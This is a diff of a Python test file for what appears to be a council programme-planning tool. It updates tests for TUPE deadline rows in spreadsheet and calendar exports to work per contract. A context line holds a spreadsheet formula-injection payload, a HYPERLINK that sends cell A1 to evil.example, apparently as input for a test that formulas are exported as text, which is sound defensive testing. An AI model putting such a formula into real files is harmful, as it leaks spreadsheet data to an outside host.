@@ -20,9 +20,9 @@ HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")'
 def plan(cast):
     programme = cast.programme
     programme.name = "Home Care Insourcing"
-    programme.contract_end_date = date(2026, 9, 30)
     programme.transfer_date = date(2026, 10, 1)
     programme.save()
+    programme.contracts.update(end_date=date(2026, 9, 30), transfer_date=date(2026, 10, 1))
     cast.milestone.baseline_date = date(2026, 5, 1)
     cast.milestone.forecast_date = date(2026, 5, 11)
     cast.milestone.save()
@@ -61,7 +61,7 @@ def test_the_spreadsheet_has_one_row_per_milestone_and_derived_date(plan, cast):
     assert len(body) == 3 + 2
     titles = [r[1] for r in body]
     assert "Consultation" in titles and "Staff told of the transfer" in titles
-    assert "TUPE Employee Liability Information due" in titles
+    assert f"TUPE Employee Liability Information due: {plan.contracts.get().title}" in titles
     assert "Publish on forward plan: Cabinet, Approve the transfer" in titles
     assert not any("Not a key decision" in str(t) for t in titles)
     # In forecast date order.
@@ -75,13 +75,13 @@ def test_the_spreadsheet_has_one_row_per_milestone_and_derived_date(plan, cast):
     assert consultation[6] == 10
     assert consultation[7] == "Not started"
 
-    eli = body[titles.index("TUPE Employee Liability Information due")]
+    eli = body[titles.index(f"TUPE Employee Liability Information due: {plan.contracts.get().title}")]
     assert eli[4] == datetime(2026, 9, 3)
     assert eli[7] == "Derived"
-    assert eli[10].startswith("28 days before the transfer date (1 October 2026)")
+    assert eli[10].startswith("28 days before staff transfer under it (1 October 2026)")
     facts = dict(wb["Programme"].iter_rows(min_row=2, values_only=True))
     assert facts["Programme"] == "Home Care Insourcing"
-    assert facts["ELI deadline"] == datetime(2026, 9, 3)
+    assert facts["First ELI deadline"] == datetime(2026, 9, 3)
 
 
 def test_the_spreadsheet_writes_formulas_as_text(plan, cast):
@@ -138,7 +138,8 @@ def test_the_calendar_feed_has_every_date(plan, cast, client):
     assert len(events) == 3 + 2 + 1
     assert len({str(e["UID"]) for e in events}) == len(events)
     by_summary = {str(e["SUMMARY"]): e for e in events}
-    assert by_summary["TUPE Employee Liability Information due"].decoded("DTSTART") == date(2026, 9, 3)
+    eli = by_summary[f"TUPE Employee Liability Information due: {plan.contracts.get().title}"]
+    assert eli.decoded("DTSTART") == date(2026, 9, 3)
     assert by_summary["Transfer day: Home Care Insourcing"].decoded("DTSTART") == date(2026, 10, 1)
     assert by_summary["Consultation [Not started]"].decoded("DTSTART") == date(2026, 5, 11)
     # A completed milestone is shown on the day it was met.
